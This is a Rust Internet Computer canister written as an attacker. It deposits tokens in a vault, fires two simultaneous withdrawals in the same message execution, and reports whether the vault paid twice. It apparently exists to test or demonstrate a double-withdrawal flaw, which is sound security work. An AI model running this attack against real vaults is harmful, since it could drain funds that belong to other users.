//! An attacker: it deposits tokens in a vault and asks for them back twice, the second time before the first is paid.

use candid::{CandidType, Deserialize, Principal};
use futures::future::join;
use ic_cdk::api::canister_self;
use ic_cdk::call::{Call, CallFailed, Response};
use ic_cdk::update;

/// How the attack went.
#[derive(CandidType)]
struct Report {
    /// Tokens of the attacker before.
    tokens_before: u64,
    /// Tokens of the attacker afterwards; more than before where the vault paid twice.
    tokens_after: u64,
    first_withdrawal: Result<(), String>,
    second_withdrawal: Result<(), String>,
}

/// Deposits tokens of this canister in a vault, and withdraws them twice at the same time.
#[update]
async fn attack(vault: Principal, amount: u64) -> Result<Report, String> {
    let token: Principal = decode(Call::bounded_wait(vault, "token").await)?;
    let tokens_before = tokens_of_self(token).await?;

    Call::bounded_wait(token, "approve")
        .with_args(&(vault, amount))
        .await
        .map_err(|error| error.to_string())?;
    decode::<Result<(), String>>(Call::bounded_wait(vault, "deposit").with_arg(amount).await)??;

    // Both requests leave in this message execution, before the vault has seen either of them.
    let (first_withdrawal, second_withdrawal) =
        join(withdraw(vault, amount), withdraw(vault, amount)).await;

    let tokens_after = tokens_of_self(token).await?;
    Ok(Report {
        tokens_before,
        tokens_after,
        first_withdrawal,
        second_withdrawal,
    })
}

async fn withdraw(vault: Principal, amount: u64) -> Result<(), String> {
    decode::<Result<(), String>>(Call::bounded_wait(vault, "withdraw").with_arg(amount).await)?
}

async fn tokens_of_self(token: Principal) -> Result<u64, String> {
    decode(
        Call::bounded_wait(token, "balance_of")
            .with_arg(canister_self())
            .await,
    )
}

/// Decodes the one value of a reply.
fn decode<T>(outcome: Result<Response, CallFailed>) -> Result<T, String>
where
    T: CandidType + for<'a> Deserialize<'a>,
{
    outcome
        .map_err(|error| error.to_string())?
        .candid()
        .map_err(|error| error.to_string())
}

ic_cdk::export_candid!();
